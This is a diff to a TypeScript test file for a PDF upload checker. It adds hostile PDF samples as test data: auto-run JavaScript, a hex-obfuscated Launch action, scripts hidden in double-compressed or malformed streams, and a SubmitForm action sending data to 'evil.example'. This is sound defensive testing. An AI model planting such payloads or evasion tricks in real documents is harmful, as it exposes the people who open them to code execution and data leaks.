@@ -1,5 +1,6 @@
 /** Sheets of suppliers: PDF files through the door of the photos (contract, Photos). */
 import { createHash } from 'node:crypto';
+import { deflateSync } from 'node:zlib';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { filesInUse } from '../../server/store/records/ended.ts';
 import { bareDevice, create } from '../kit/bare-device.ts';
@@ -15,6 +16,9 @@ afterAll(() => site[Symbol.asyncDispose]());
 
 const script = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>';
 const encrypted = `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'00'.repeat(32)}>/U<${'00'.repeat(32)}>>>/ID[<00><00>]`;
+
+const unusual = (packing: object) => pdfFile({ catalog: script, isPacked: true, packing });
+const twice = (content: Buffer): Buffer => deflateSync(deflateSync(content));
 
 async function newSite(name: string): Promise<string> {
   const { id: project_id } = await site.must('createProject', { body: { name } });
@@ -47,7 +51,12 @@ test('[BL20] a PDF is kept as it was sent, with the number of its pages', async 
 test.each([
   ['a script', pdfFile({ catalog: script }), 'script'],
   ['a script that a search of the bytes does not find', pdfFile({ catalog: script, isPacked: true }), 'script'],
-  ['a start of a program, spelt by its codes', pdfFile({ catalog: '/OpenAction<</S/L#61unch/F(run)>>' }), 'program'],
+  ['a start of a program, spelt by its codes', pdfFile({ catalog: '/OpenAction<</S/L#61unch/F(run)>>' }), 'starts'],
+  ['a script in a stream of two layers', unusual({ filter: '[/FlateDecode/FlateDecode]', encode: twice }), 'damaged'],
+  ['a script in a stream with another object’s mark', unusual({ more: '/X(obj)' }), 'damaged'],
+  ['a script in a stream with a bare line end', unusual({ mark: 'stream\r' }), 'damaged'],
+  ['an action that sends', pdfFile({ catalog: '/OpenAction<</S/SubmitForm/F(http://evil.example)>>' }), 'sends'],
+  ['a model with a script', pdfFile({ catalog: '/X<</Subtype/3D/OnInstantiate 3 0 R>>' }), 'script'],
   ['protection', pdfFile({ trailer: encrypted }), 'protected'],
   ['a cut end', pdfFile({ pages: 9 }).slice(0, 700), 'damaged'],
   ['no content', Uint8Array.from(Buffer.from('%PDF-1.7\nnothing of a PDF')), 'damaged'],
